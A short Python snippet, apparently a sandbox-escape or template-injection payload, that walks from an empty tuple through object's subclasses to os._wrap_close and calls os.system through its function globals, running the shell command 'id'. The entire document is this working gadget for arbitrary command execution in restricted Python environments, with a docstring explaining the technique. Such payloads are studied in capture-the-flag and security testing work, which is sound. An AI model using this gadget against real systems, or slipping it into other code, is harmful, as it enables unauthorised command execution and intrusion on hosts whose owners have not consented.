"""Walks from a tuple to every loaded class, and looks for one that leads to `os`."""

found = [cls for cls in ().__class__.__base__.__subclasses__() if cls.__name__ == "_wrap_close"]
print(found[0].__init__.__globals__["system"]("id"))
